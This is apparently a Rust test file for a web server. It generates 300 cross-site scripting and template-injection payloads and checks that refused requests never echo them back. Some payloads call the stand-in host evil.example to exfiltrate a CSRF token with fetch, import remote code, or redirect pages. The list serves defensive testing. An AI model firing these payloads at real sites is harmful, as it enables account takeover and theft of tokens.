//! W9, V7: nothing of a request that is refused comes back.

use crate::support::{Answer, CSRF, Wizard};

/// 300 texts that a browser might run, if one of them came back as it is.
fn hostile() -> Vec<String> {
    let shapes = [
        "<script>X</script>",
        "<img src=x onerror=X>",
        "<svg onload=X>",
        "\"><script>X</script>",
        "'><script>X</script>",
        "</title><script>X</script>",
        "</style><script>X</script>",
        "--><script>X</script>",
        "]]><script>X</script>",
        "javascript:X",
        "data:text/html,<script>X</script>",
        "<iframe srcdoc=\"<script>X</script>\">",
        "<body onload=X>",
        "<a href=javascript:X>a</a>",
        "\" autofocus onfocus=X x=\"",
        "' onmouseover=X '",
        "{{X}}",
        "${X}",
        "<%= X %>",
        "#{X}",
        "<math><mtext></mtext><script>X</script></math>",
        "<details open ontoggle=X>",
        "<input autofocus onfocus=X>",
        "<video><source onerror=X>",
        "<object data=\"javascript:X\">",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=//evil.example>",
        "<form action=//evil.example><button>",
        "&lt;script&gt;X&lt;/script&gt;",
    ];
    let calls = [
        "alert(1)",
        "alert`1`",
        "fetch('//evil.example/'+document.body.dataset.csrf)",
        "top[8680439..toString(30)](1)",
        "eval(name)",
        "import('//evil.example')",
        "location='//evil.example'",
        "new Image().src='//evil.example'",
        "document.write(1)",
        "print()",
    ];
    let all = |call: &&str| shapes.map(|shape| shape.replace('X', call));
    calls.iter().flat_map(all).collect()
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()
}

#[test]
fn w9_v7_refusals_are_the_same_bytes_whatever_was_sent() {
    let wizard = Wizard::start();
    let texts = hostile();
    assert_eq!(texts.len(), 300);
    let mut said: Vec<(&str, u16, Vec<Answer>)> = vec![
        ("path", 404, Vec::new()),
        ("query", 401, Vec::new()),
        ("key", 401, Vec::new()),
        ("header", 401, Vec::new()),
        ("host", 421, Vec::new()),
        ("origin", 403, Vec::new()),
        ("body", 403, Vec::new()),
        ("unknown page", 404, Vec::new()),
        ("raw path", 400, Vec::new()),
    ];
    for text in &texts {
        let safe = escaped(text);
        let stranger = ("Cookie", "");
        let answers = [
            wizard.ask("GET", &format!("/{safe}"), &[]),
            wizard.ask("GET", &format!("/?q={safe}"), &[stranger]),
            wizard.ask("GET", &format!("/enter?key={safe}"), &[stranger]),
            wizard.ask(
                "GET",
                "/",
                &[("Cookie", text), ("User-Agent", text), ("Referer", text), ("X-Own", text)],
            ),
            wizard.ask("GET", "/", &[("Host", text)]),
            wizard.post("/journey", &format!("csrf={CSRF}"), &[("Origin", text)]),
            wizard.post("/journey", &format!("csrf={safe}&client_secret={safe}"), &[]),
            wizard.ask("GET", &format!("/nothing?{safe}={safe}"), &[("Referer", text)]),
            wizard.ask("GET", &format!("/a \x01{text}"), &[]),
        ];
        for ((_, _, kept), answer) in said.iter_mut().zip(answers) {
            kept.push(answer);
        }
    }
    for (what, status, answers) in &said {
        for (answer, text) in answers.iter().zip(&texts) {
            assert_eq!((answer.status, answer), (*status, &answers[0]), "{what}: {text}");
        }
    }
}
